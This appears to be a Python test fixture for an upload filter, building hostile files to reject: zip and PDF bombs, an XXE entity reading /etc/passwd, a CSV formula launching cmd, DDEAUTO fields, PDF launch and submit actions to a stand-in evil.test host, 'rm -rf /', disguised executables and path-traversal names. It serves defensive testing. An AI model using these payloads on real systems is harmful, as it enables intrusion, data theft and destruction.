"""Files made to do harm, each by another way: none may be let in as it is.

A value is the name it comes with and its bytes, made when asked for: some are large.
"""

import random
import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from tests.files import (
    RELATIONS,
    office,
    open_document,
    pdf,
    picture,
    relations,
    stream,
    zipped,
)

HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(120) + b"PE\x00\x00" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]><w>&a9;</w>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
WIDE = XXE.replace('"1.0"', '"1.0" encoding="UTF-16"')
MACRO_TYPE = (
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)
BIG = 200 * 2**20


def outside(kind: str, target: str, mode: str = "External") -> str:
    return relations(f'<Relationship Id="r9" Type="{RELATIONS}/{kind}" Target="{target}" '
                     f'TargetMode="{mode}"/>')  # fmt: skip


def field(*runs: str) -> str:
    texts = "".join(f"<w:instrText>{run}</w:instrText>" for run in runs)
    return f'<w:hdr xmlns:w="urn:w">{texts}</w:hdr>'


def bomb(size: int = BIG) -> bytes:
    """A docx whose text unpacks to `size` zeros, a thousand times its own size."""
    return office(word__media__a_xml=bytes(size))


def lying_bomb() -> bytes:
    """The directory says that the part is small; its stream goes on."""
    content = bytearray(bomb(2 * 2**20))
    size = struct.pack("<L", 2 * 2**20)
    crc = struct.pack("<L", zlib.crc32(bytes(2 * 2**20)))
    small = struct.pack("<L", zlib.crc32(bytes(1000))), struct.pack("<L", 1000)
    return bytes(content).replace(crc, small[0]).replace(size, small[1])


def many_parts() -> bytes:
    return zipped({f"word/a{number}.xml": "<a/>" for number in range(3500)})


def many_small_parts() -> bytes:
    """None is large enough to look like a bomb; together they are."""
    part = b"<a>" + b"<b/>" * 200_000 + b"</a>"
    return zipped({f"word/a{number}.xml": part for number in range(70)})


def too_many_elements() -> bytes:
    """Just within what may be unpacked, but of more elements than anybody writes."""
    noise = random.Random(7).randbytes(700_000)
    part = b"<a>" + b"<b/>" * 200_000 + b"</a>"
    parts = {f"word/a{number}.xml": part for number in range(8)}
    return zipped({"word/media/a.png": noise, **parts})


def twice() -> bytes:
    """The same part two times: one for the guard, one for the reader."""
    file = BytesIO(office())
    with ZipFile(file, "a", ZIP_DEFLATED) as archive:
        archive.writestr("word/Document.xml", "<w/>")
    return file.getvalue()


def huge_picture() -> bytes:
    """A PNG of a few bytes that claims 60,000 × 60,000 pixels."""
    whole = bytearray(picture())
    whole[16:24] = struct.pack(">2L", 60_000, 60_000)
    whole[29:33] = struct.pack(">L", zlib.crc32(bytes(whole[12:29])))
    return bytes(whole)


def spotted() -> bytes:
    """A real file, encrypted by a flag in its directory."""
    whole = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = whole.find(mark)
        while start >= 0:
            whole[start + place] |= 1
            start = whole.find(mark, start + 4)
    return bytes(whole)


def packed_script(head: bytes = b"/Type /ObjStm /N 1 /First 4") -> bytes:
    return pdf(stream(b"9 0 " + JAVASCRIPT, head))


def deep() -> bytes:
    return office(word__embeddings__a_docx=office(word__embeddings__b_docx=office()))


Made = Callable[[], bytes]
HOSTILE: dict[str, tuple[str, Made]] = {
    "nothing": ("bao-cao.pdf", lambda: b""),
    "oversized": ("bao-cao.txt", lambda: b"a" * (20 * 2**20 + 1)),
    "web page as picture": ("anh.png", lambda: HTML),
    "web page as text": ("anh.txt", lambda: HTML),
    "web page": ("trang.html", lambda: HTML),
    "page behind spaces": ("a.txt", lambda: b"\n\n   <svg onload=alert(1)>"),
    "script in the middle of a text": ("a.txt", lambda: b"x" * 5000 + b"<script>1</script>"),
    "drawing with script": ("hinh.svg", lambda: SVG),
    "drawing as picture": ("hinh.png", lambda: SVG),
    "program as pdf": ("bao-cao.pdf", lambda: EXE),
    "program with two endings": ("bao-cao.pdf.exe", lambda: EXE),
    "program as text": ("a.txt", lambda: EXE),
    "linux program": ("bao-cao.docx", lambda: ELF),
    "shell script": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "pdf that calls itself a program": ("bao-cao.pdf.exe", pdf),
    "program by a turned name": ("bao-cao\u202efdp.exe", lambda: EXE),
    "picture as pdf": ("anh.pdf", picture),
    "pdf as picture": ("anh.png", pdf),
    "text with a null byte": ("a.txt", lambda: b"abc\x00def"),
    "text with control characters": ("a.txt", lambda: b"\x1b[2Jabc"),
    "text in another encoding": ("a.txt", lambda: "Đồng ý".encode("utf-16")),
    "formula in a table": ("a.csv", lambda: b"a,b\n1,=cmd|'/c calc'!A0\n"),
    "hidden formula in a table": ("a.csv", lambda: b'a;b\n1;"+HYPERLINK(""http://x"")"\n'),
    "old word file": ("bao-cao.doc", lambda: OLE),
    "old word file as new": ("bao-cao.docx", lambda: OLE),
    "word with macros": (
        "bao-cao.docm", lambda: office(types=MACRO_TYPE, word__vbaProject_bin=OLE),
    ),
    "macros under another name": (
        "bao-cao.docx", lambda: office(types=MACRO_TYPE, word__vbaProject_bin=OLE),
    ),
    "excel with macros": (
        "bang.xlsm", lambda: office("xlsx", types=MACRO_TYPE, xl__vbaProject_bin=OLE),
    ),
    "macros of excel 4": ("bang.xlsx", lambda: office("xlsx", xl__macrosheets__a_xml=b"<a/>")),
    "type that runs": (
        "a.docx",
        lambda: office(types='<Override PartName="/word/a.xml" '
                             'ContentType="application/vnd.ms-word.document.macroEnabled"/>'),
    ),
    "template from elsewhere": (
        "a.docx",
        lambda: office(word___rels__settings_xml_rels=outside(
            "attachedTemplate", "http://evil.test/a.dotm")),
    ),
    "picture from elsewhere": (
        "a.docx",
        lambda: office(word___rels__document_xml_rels=outside("image", "http://evil.test/a.png")),
    ),
    "share as link": (
        "a.docx",
        lambda: office(word___rels__document_xml_rels=outside("hyperlink", "file://evil/share")),
    ),
    "table from elsewhere": ("a.xlsx", lambda: office("xlsx", xl__externalLinks__a_xml=b"<a/>")),
    "control": ("a.docx", lambda: office(word__activeX__activeX1_xml=b"<a/>")),
    "embedded program": ("a.docx", lambda: office(word__embeddings__oleObject1_bin=OLE)),
    "embedded page": ("a.docx", lambda: office(word__a_html=HTML)),
    "embedded archive": ("a.docx", lambda: office(word__embeddings__a_zip=zipped({"a": "b"}))),
    "field that starts a program": ("a.docx", lambda: office(word__a_xml=field("DDEAUTO cmd"))),
    "field in pieces": ("a.docx", lambda: office(word__a_xml=field(" DD", "EAU", "TO cmd "))),
    "entity that reads a file": ("a.docx", lambda: office(word__a_xml=XXE)),
    "entities that laugh": ("a.docx", lambda: office(word__a_xml=ENTITIES)),
    "entities in another encoding": (
        "a.docx",
        lambda: office(word__a_xml=WIDE.encode("utf-16")),
    ),
    "broken xml": ("a.docx", lambda: office(word__a_xml=b"<w><")),
    "script of libreoffice": ("a.odt", lambda: open_document(Basic__a_xml="<a/>")),
    "event of libreoffice": (
        "a.odt", lambda: open_document(body='<script:event-listener xlink:href="vnd.sun.star"/>'),
    ),
    "section from elsewhere": (
        "a.odt",
        lambda: open_document(body='<text:section-source xlink:href="https://evil.test/a.odt"/>'),
    ),
    "entities of libreoffice": ("a.odt", lambda: zipped(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": ENTITIES})),
    "plain archive": ("a.zip", lambda: zipped({"a.txt": "a"})),
    "plain archive as word": ("a.docx", lambda: zipped({"a.xml": "<a/>"})),
    "path that climbs": ("a.docx", lambda: zipped({"../../etc/passwd": "a"})),
    "part that is there twice": ("a.docx", twice),
    "archive behind a page": ("a.docx", lambda: HTML + office()),
    "page behind an archive": ("a.docx", lambda: office() + HTML),
    "archive behind a pdf": ("a.pdf", lambda: pdf(tail=office())),
    "page before a pdf": ("a.pdf", lambda: HTML + pdf()),
    "protected archive": ("a.docx", spotted),
    "cut archive": ("a.docx", lambda: office()[:-40]),
    "bomb": ("a.docx", bomb),
    "bomb in a bomb": ("a.docx", lambda: office(word__embeddings__a_docx=bomb(8 * 2**20))),
    "bomb that lies": ("a.docx", lying_bomb),
    "bomb of many parts": ("a.docx", many_parts),
    "bomb of small parts": ("a.docx", many_small_parts),
    "book of a million elements": ("a.docx", too_many_elements),
    "archive in an archive in an archive": ("a.docx", deep),
    "pdf with a script": ("a.pdf", lambda: pdf(JAVASCRIPT)),
    "pdf that acts on opening": ("a.pdf", lambda: pdf(b"<< /OpenAction " + JAVASCRIPT + b" >>")),
    "pdf with a script in other letters": (
        "a.pdf", lambda: pdf(JAVASCRIPT.replace(b"/JavaScript", b"/J#61va#53cript")),
    ),
    "pdf with a packed script": ("a.pdf", packed_script),
    "pdf with a script packed by another name": (
        "a.pdf", lambda: packed_script(b"/Type /Obj#53tm /N 1 /First 4"),
    ),
    "pdf that starts a program": ("a.pdf", lambda: pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf with a file in it": ("a.pdf", lambda: pdf(b"<< /EmbeddedFiles 9 0 R >>")),
    "pdf that sends": ("a.pdf", lambda: pdf(b"<< /S /SubmitForm /F (http://evil.test) >>")),
    "pdf form with scripts": ("a.pdf", lambda: pdf(b"<< /XFA 9 0 R >>")),
    "pdf that cannot be searched": ("a.pdf", lambda: pdf(b"<< /Encrypt 9 0 R >>")),
    "pdf bomb": ("a.pdf", lambda: pdf(stream(bytes(64 * 2**20), b"/Type /ObjStm /N 1 /First 4"))),
    "cut pdf": ("a.pdf", lambda: pdf()[:-30]),
    "huge picture": ("a.png", huge_picture),
    "cut photo": ("a.jpg", lambda: picture("JPEG", (400, 400))[:900]),
    "cut picture": ("a.png", lambda: picture(size=(400, 400))[:120]),
    "animation that is no picture of ours": ("a.gif", lambda: picture("GIF")),
    "tiff as jpeg": ("a.jpg", lambda: picture("TIFF")),
}  # fmt: skip

# Names that lie about a file that is harmless itself: it is let in, under an honest name.
NAMES: dict[str, str] = {
    "../../etc/passwd.txt": "passwd.txt",
    "..\\..\\windows\\bien-ban.txt": "bien-ban.txt",
    "/etc/cron.d/bien-ban.txt": "bien-ban.txt",
    "bien\u202etxt.ban.txt": "bientxt.ban.txt",
    "bien\u200bban.txt": "bienban.txt",
    "bien\x00ban.txt": "bienban.txt",
    "bien\r\nban.txt": "bienban.txt",
    'bien"; filename="x.exe.txt': "bien filename=x.exe.txt",
    "a" * 300 + ".txt": "a" * 116 + ".txt",
    "Biên bản họp.txt": "Biên bản họp.txt",
    "Bie\u0302n ba\u0309n.txt": "Biên bản.txt",
    ".txt": "minh-chung.txt",
    "<script>.txt": "script.txt",
    "=cmd.txt.txt": "=cmd.txt.txt",
}
